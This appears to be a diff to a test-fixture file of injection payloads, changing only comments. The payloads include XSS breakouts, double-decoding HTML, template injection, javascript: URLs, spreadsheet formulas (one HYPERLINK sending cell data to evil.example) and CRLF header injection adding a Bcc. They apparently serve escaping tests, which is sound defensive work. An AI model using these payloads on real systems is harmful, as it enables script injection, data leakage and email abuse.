@@ -1,5 +1,5 @@
 /**
- * Inputs that would do something where others read them. Those that run set `window.proved`; those that become an
+ * Inputs that would do harm when others read them. Those that run set `window.proved`; those that become an
  * element carry `data-prove`.
  */
 const RUN = 'window.proved=1,alert(1)';
@@ -58,7 +58,7 @@ const BREAKOUTS = [
   `\\";${RUN};//`,
   `\u2028${RUN}\u2028`,
 ];
-/** Text that becomes HTML only when it is decoded once more. */
+/** Text that becomes HTML only when it is decoded twice. */
 export const TWICE: readonly string[] = [
   `<noscript><p title="</noscript>${IMAGE.replaceAll('"', "'")}"></noscript>`,
   `<svg></p><style><a id="</style>${IMAGE.replaceAll('"', "'")}">`,
@@ -74,7 +74,7 @@ export const TWICE: readonly string[] = [
   `{{constructor.constructor('${RUN}')()}}`,
   `\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
 ];
-/** For texts that become an address. */
+/** For text that becomes an address. */
 export const SCHEMES: readonly string[] = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -86,7 +86,7 @@ export const SCHEMES: readonly string[] = [
   'vbscript:msgbox(1)',
   `https://clinic.example/"onmouseover="${RUN}"data-prove="`,
 ];
-/** For texts that become a spreadsheet cell. */
+/** For text that becomes a spreadsheet cell. */
 export const FORMULAS: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"x")',
@@ -105,7 +105,7 @@ export const FORMULAS: readonly string[] = [
   '"=1+1',
   '";=1+1;"',
 ];
-/** For texts that become a header. */
+/** For text that becomes a header. */
 const HEADERS = [
   'x\r\nBcc: evil@evil.example',
   'x\nBcc: evil@evil.example\n\n<h1>Evil</h1>',
